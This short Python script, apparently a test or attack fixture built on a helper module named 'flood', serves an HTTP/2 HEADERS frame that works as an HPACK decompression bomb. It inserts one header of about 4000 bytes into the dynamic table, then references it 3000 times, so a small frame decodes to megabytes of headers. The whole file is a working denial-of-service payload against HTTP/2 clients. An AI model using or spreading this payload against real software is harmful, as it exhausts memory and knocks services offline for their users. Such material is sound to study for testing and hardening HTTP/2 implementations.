"""Sends small headers that decode to many large ones."""

from flood import PLAY, frame, serve

ENTRY = b"\x40\x01a\x7f\x81\x1e" + b"x" * 4000
serve(frame(1, 0x4, PLAY, b"\x88" + ENTRY + b"\xbe" * 3000))
